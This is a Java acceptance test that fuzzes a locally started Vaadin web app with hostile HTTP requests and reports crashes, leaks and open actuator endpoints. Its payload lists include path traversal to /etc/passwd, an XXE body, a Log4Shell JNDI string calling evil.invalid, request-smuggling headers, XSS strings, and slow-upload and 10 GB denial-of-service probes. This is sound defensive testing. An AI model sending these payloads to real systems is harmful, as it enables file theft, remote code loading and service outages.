package io.hybridanomaly.acceptance;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/** Requests that no browser sends, byte by byte. */
final class HostileRequests {

  private static final int SLOW = 50;
  private static final int TIMEOUT_MILLIS = 30_000;
  private static final List<String> INSIDES =
      List.of("Exception", "at io.", "org.springframework", "org.apache", "Tomcat", "/usr/lib");

  private static final List<String> METHODS =
      List.of("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "MADEUP", "get", "DEBUG");

  private static final List<String> PATHS =
      List.of(
          "/",
          "/error",
          "/../../etc/passwd",
          "/%2e%2e/%2e%2e/etc/passwd",
          "/..;/etc/passwd",
          "/;/WEB-INF/web.xml",
          "/WEB-INF/classes/application.properties",
          "/META-INF/MANIFEST.MF",
          "/application.properties",
          "/BOOT-INF/classes/application.properties",
          "/actuator",
          "/actuator/env",
          "/actuator/heapdump",
          "/actuator/health",
          "/actuator/prometheus",
          "/h2-console",
          "/VAADIN/../application.properties",
          "/VAADIN/dynamic/resource/0/00000000-0000-0000-0000-000000000000/upload",
          "/VAADIN/static/../../application.properties",
          "/r/" + "A".repeat(22),
          "/r/..%2f..%2fetc%2fpasswd",
          "/?v-r=uidl&v-uiId=0",
          "/?v-r=uidl&v-uiId=-1",
          "/?v-r=heartbeat&v-uiId=999999999999",
          "/?v-r=push&v-uiId=0",
          "/?v-r=init&location=%3Cscript%3E",
          "/?v-r=%00",
          "/%00",
          "/%ff%fe",
          "/" + "a".repeat(7_000),
          "/<script>window.evil=1</script>",
          "/?tab-left=x",
          "/?tab-left=-1");

  private static final List<String> BODIES =
      List.of(
          "",
          "{",
          "null",
          "[]",
          "{\"csrfToken\":\"x\",\"rpc\":[],\"syncId\":0,\"clientId\":0}",
          "{\"csrfToken\":null,\"rpc\":[{\"type\":\"event\",\"node\":1,\"event\":\"x\"}]}",
          "{\"rpc\":" + "[".repeat(20_000),
          "\u0000\u0001\u0002",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
          "x".repeat(900_000));

  private static final List<String> HEADERS =
      List.of(
          "Origin: http://evil.invalid",
          "Origin: null",
          "Sec-Fetch-Site: cross-site",
          "Host: evil.invalid",
          "X-Forwarded-Host: evil.invalid",
          "X-Forwarded-For: <script>, 127.0.0.1",
          "Cookie: JSESSIONID=../../x; JSESSIONID=y",
          "Cookie: JSESSIONID=" + "A".repeat(4_000),
          "Content-Length: -1",
          "Transfer-Encoding: chunked\r\nContent-Length: 5",
          "Range: bytes=0-,0-,0-,0-",
          "Upgrade: websocket\r\nConnection: Upgrade\r\nOrigin: http://evil.invalid",
          "Accept-Language: ${jndi:ldap://evil.invalid/x}",
          "User-Agent: x\u0000y",
          "X: " + "b".repeat(9_000));

  private final PackagedJar.Server server;
  private final Consumer<String> faults;

  HostileRequests(PackagedJar.Server server, Consumer<String> faults) {
    this.server = server;
    this.faults = faults;
  }

  /** Sends them all; gives how many they were. */
  int run() throws Exception {
    int count = 0;
    for (String path : PATHS) {
      send("GET", path, "", "");
      send("POST", path, "", "{}");
      count += 2;
    }
    for (String method : METHODS) {
      send(method, "/", "", "");
      send(method, "/?v-r=uidl&v-uiId=0", "", "{}");
      count += 2;
    }
    for (String body : BODIES) {
      send("POST", "/?v-r=uidl&v-uiId=0", "", body);
      send("POST", "/?v-r=push&v-uiId=0", "", body);
      count += 2;
    }
    for (String header : HEADERS) {
      send("GET", "/", header + "\r\n", "");
      send("POST", "/?v-r=uidl&v-uiId=0", header + "\r\n", "{}");
      count += 2;
    }
    return count + forged() + slow();
  }

  private void send(String method, String path, String headers, String body) throws IOException {
    byte[] content = body.getBytes(StandardCharsets.UTF_8);
    String head =
        "%s %s HTTP/1.1\r\n%s%sConnection: close\r\nContent-Length: %d\r\n\r\n"
            .formatted(
                method,
                path,
                headers.startsWith("Host:") ? "" : "Host: localhost:" + server.port() + "\r\n",
                headers,
                content.length);
    try (Socket socket = new Socket("localhost", server.port())) {
      socket.setSoTimeout(TIMEOUT_MILLIS);
      OutputStream out = socket.getOutputStream();
      out.write(head.getBytes(StandardCharsets.UTF_8));
      out.write(content);
      out.flush();
      String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      String what = method + " " + path.substring(0, Math.min(60, path.length())) + " " + headers;
      if (answer.matches("(?s)HTTP/1.1 5\\d\\d.*") && !answer.startsWith("HTTP/1.1 501")) {
        faults.accept(what + " was answered with " + answer.lines().findFirst().orElse(""));
      }
      String shown = answer.startsWith("HTTP/1.1 200") && !path.contains("actuator") ? "" : answer;
      INSIDES.stream()
          .filter(shown::contains)
          .forEach(word -> faults.accept(what + " tells of " + word));
      if (path.contains("actuator") && answer.startsWith("HTTP/1.1 200")) {
        faults.accept(what + " is open");
      }
    } catch (IOException e) {
      // The server may hang up on what is no request; it must not fall, which is looked at later.
      if (e instanceof java.net.SocketTimeoutException) {
        faults.accept(method + " " + path + " got no answer");
      }
    }
  }

  /** Messages of a real visit with values that no page sends. */
  private int forged() throws Exception {
    List<String> values =
        List.of("-1", "0", "1e308", "2147483648", "\"x\"", "null", "true", "[]", "{}", "1e-320");
    List<String> ids =
        List.of("epochs", "window-size", "sensitivity", "fusion-mode", "benford-weight");
    int count = 0;
    for (String id : ids) {
      for (String value : values) {
        try (VaadinVisit visit = new VaadinVisit(server.address())) {
          visit.open();
          count++;
          visit.forge(id, value);
          visit.look();
        } catch (IOException e) {
          if (!String.valueOf(e.getMessage()).startsWith("the page failed")
              && !String.valueOf(e.getMessage()).startsWith("status 4")) {
            faults.accept("forged %s of %s: %s".formatted(value, id, e.getMessage()));
          }
        }
      }
    }
    return count;
  }

  /** Uploads that hardly move do not keep another visitor out. */
  private int slow() throws Exception {
    List<Socket> slow = new ArrayList<>();
    try {
      for (int i = 0; i < SLOW; i++) {
        Socket socket = new Socket("localhost", server.port());
        slow.add(socket);
        socket
            .getOutputStream()
            .write(
                ("POST /VAADIN/dynamic/resource/0/x/upload HTTP/1.1\r\nHost: localhost:%d\r\n"
                            .formatted(server.port())
                        + "Content-Type: text/csv\r\nContent-Length: 1000000\r\n\r\nvalue\n")
                    .getBytes(StandardCharsets.UTF_8));
      }
      long began = System.nanoTime();
      try (VaadinVisit visit = new VaadinVisit(server.address())) {
        visit.open();
      }
      double seconds = (System.nanoTime() - began) / 1e9;
      if (seconds > 10) {
        faults.accept("with %d slow uploads a page took %.1f s".formatted(SLOW, seconds));
      }
    } finally {
      for (Socket socket : slow) {
        socket.close();
      }
    }
    endless();
    return SLOW + 1;
  }

  /** Ten gigabytes that are not wanted. */
  private void endless() throws Exception {
    long before = HostedServer.resident(server);
    byte[] block = new byte[1 << 16];
    try (Socket socket = new Socket("localhost", server.port())) {
      socket.setSoTimeout(TIMEOUT_MILLIS);
      OutputStream out = socket.getOutputStream();
      out.write(
          ("POST /?v-r=uidl&v-uiId=0 HTTP/1.1\r\nHost: localhost:%d\r\n".formatted(server.port())
                  + "Content-Length: 10000000000\r\n\r\n")
              .getBytes(StandardCharsets.UTF_8));
      for (int i = 0; i < 10_000_000_000L / block.length; i++) {
        out.write(block);
      }
      InputStream in = socket.getInputStream();
      faults.accept("10 GB were taken: " + new String(in.readNBytes(100), StandardCharsets.UTF_8));
    } catch (IOException e) {
      long grown = HostedServer.resident(server) - before;
      System.out.println("A refused message of 10 GB: " + grown + " MB more resident");
      if (grown > 32) {
        faults.accept("a refused message of 10 GB took " + grown + " MB");
      }
    }
  }
}
